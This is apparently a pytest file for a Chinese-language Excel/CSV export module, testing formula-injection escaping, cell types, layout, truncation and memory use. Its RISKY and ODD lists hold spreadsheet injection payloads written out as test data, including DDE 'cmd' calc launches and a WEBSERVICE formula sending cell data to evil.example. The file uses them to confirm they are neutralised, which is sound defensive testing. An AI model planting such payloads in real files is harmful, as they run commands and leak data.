"""Excel and CSV files, read back by other programs; whatever people typed stays what they typed."""

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from zhijia.kit.paper import Col, sheetout, write_csv, write_xlsx
from zhijia.kit.paper.sheetout import harmless

RISKY = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","点我")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    " =1+1",
    "　=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹣1",
]
ODD = [
    "http://evil.example/",
    "file:///C:/Windows/win.ini",
    "mailto:a@b.c",
    "internal:数据!A1",
    "450103199001011234",
    "007",
    "1e5",
    "2023-01-01",
    "{=1+1}",
    'a","=1+1',
    "'=1+1",
    "<script>alert(1)</script>",
    "换\n行",
    "张\U00020bb7·买买提",
]


def read_xlsx(file):
    sheet = openpyxl.load_workbook(file).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=3)]


def xlsx(columns, rows, **more):
    file = io.BytesIO()
    write_xlsx(columns, rows, file, title="花名册", **more)
    file.seek(0)
    return file


def csv_rows(columns, rows):
    file = io.BytesIO()
    write_csv(columns, rows, file)
    assert file.getvalue().startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("kind", ["text", "number", "money", "date"])
def test_no_text_becomes_a_formula_or_a_link_in_excel(kind):
    texts = RISKY + ODD
    file = xlsx([Col("内容", kind=kind), "b"], [[text, "x"] for text in texts])
    book = openpyxl.load_workbook(file)
    cells = [row[0] for row in book.worksheets[0].iter_rows(min_row=3)]
    expected = [text.replace("\r", "\n") for text in texts]
    assert [(cell.value, cell.data_type, cell.hyperlink) for cell in cells] == [
        (t, "s", None) for t in expected
    ]
    assert {cell.number_format for cell in cells} == {"@"}


@pytest.mark.parametrize("text", RISKY)
def test_csv_takes_the_sting_out(text):
    expected = "'" + text.replace("\r", "\n")
    assert csv_rows([text, "b"], [[text, "x"]]) == [["'" + text, "b"], [expected, "x"]]


@pytest.mark.parametrize("text", ODD)
def test_csv_leaves_harmless_text_alone(text):
    assert csv_rows(["a", "b"], [[text, "x"]]) == [["a", "b"], [text, "x"]]


def test_numbers_in_csv_stay_numbers():
    row = [-5, Decimal("-4.50"), 1.5, None, True, date(2023, 5, 1)]
    assert csv_rows(list("abcdef"), [row])[1] == ["-5", "-4.50", "1.5", "", "是", "2023-05-01"]


def test_empty_text_is_harmless():
    assert harmless("") == ""


on_the_wall = datetime.fromisoformat


def test_values_keep_their_kind_in_excel():
    columns = [
        "证号",
        Col("人数", kind="number"),
        Col("金额", kind="money"),
        Col("日期", kind="date"),
        Col("备注"),
    ]
    rows = [
        [450103199001011234, 11, Decimal("4000.00"), date(2023, 5, 1), None],
        ["450103199001011234", True, "未记录", datetime(2023, 5, 1, 1, 30, tzinfo=UTC), 7],
    ]
    assert read_xlsx(xlsx(columns, rows)) == [
        [
            ("450103199001011234", "s"),
            (11, "n"),
            (4000, "n"),
            (on_the_wall("2023-05-01"), "d"),
            (None, "n"),
        ],
        [
            ("450103199001011234", "s"),
            ("是", "s"),
            ("未记录", "s"),
            (on_the_wall("2023-05-01 09:30"), "d"),
            ("7", "s"),
        ],
    ]


def test_numbers_excel_would_spoil_are_written_as_text():
    numbers = [10**17, float("nan"), float("inf")]
    assert read_xlsx(xlsx([Col("数", kind="number"), "b"], [[n, ""] for n in numbers])) == [
        [(str(n), "s"), (None, "n")] for n in numbers
    ]


def test_title_note_header_and_print_setup():
    book = openpyxl.load_workbook(
        xlsx(["姓名", "家庭住址"], [["王秀兰", "石桥镇" * 10]], note="单位：石桥镇总工会")
    )
    sheet = book.worksheets[0]
    assert [sheet[place].value for place in ("A1", "A2", "A3", "B3", "A4")] == [
        "花名册", "单位：石桥镇总工会", "姓名", "家庭住址", "王秀兰",
    ]  # fmt: skip
    assert (sheet.freeze_panes, sheet.print_title_rows, sheet.auto_filter.ref) == ("A4", "$1:$3", "A3:B4")
    assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
    widths = [sheet.column_dimensions[letter].width for letter in "AB"]
    assert widths == pytest.approx([8, 50], abs=1)


def test_no_rows_still_make_a_sheet():
    assert read_xlsx(xlsx(["姓名", "班组"], [])) == []
    assert csv_rows(["姓名"], []) == [["姓名"]]


def test_one_column_needs_no_merge():
    assert read_xlsx(xlsx(["姓名"], [["王秀兰"]])) == [[("王秀兰", "s")]]


def test_more_rows_than_a_sheet_holds_go_on_the_next(monkeypatch):
    monkeypatch.setattr(sheetout, "ROWS_PER_SHEET", 3)
    book = openpyxl.load_workbook(xlsx(["号"], [[n] for n in range(7)]))
    found = {sheet.title: [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)] for sheet in book}
    assert found == {"数据": ["0", "1", "2"], "数据2": ["3", "4", "5"], "数据3": ["6"]}


def test_a_cell_beyond_excels_limit_says_that_it_was_cut():
    (((text, _),),) = read_xlsx(xlsx(["文"], [["字" * 40_000]]))
    assert (len(text), text[-14:]) == (32_767, "字…（超出表格容量，已截断）")


def test_control_characters_and_broken_surrogates_do_no_harm():
    assert read_xlsx(xlsx(["文"], [["a\x00\x07b\ud800c"]])) == [[("ab�c", "s")]]


@pytest.mark.parametrize("write", [lambda c, r, f: write_xlsx(c, r, f, title="表"), write_csv])
def test_memory_does_not_grow_with_the_rows(write, tmp_path):
    def peak(rows):
        tracemalloc.start()
        write(
            ["姓名", "班组", "备注"], ([f"王{n}", "一班", f"第{n}行"] for n in range(rows)), tmp_path / "出"
        )
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(100)
    assert peak(6_000) < 1.5 * peak(1_000)
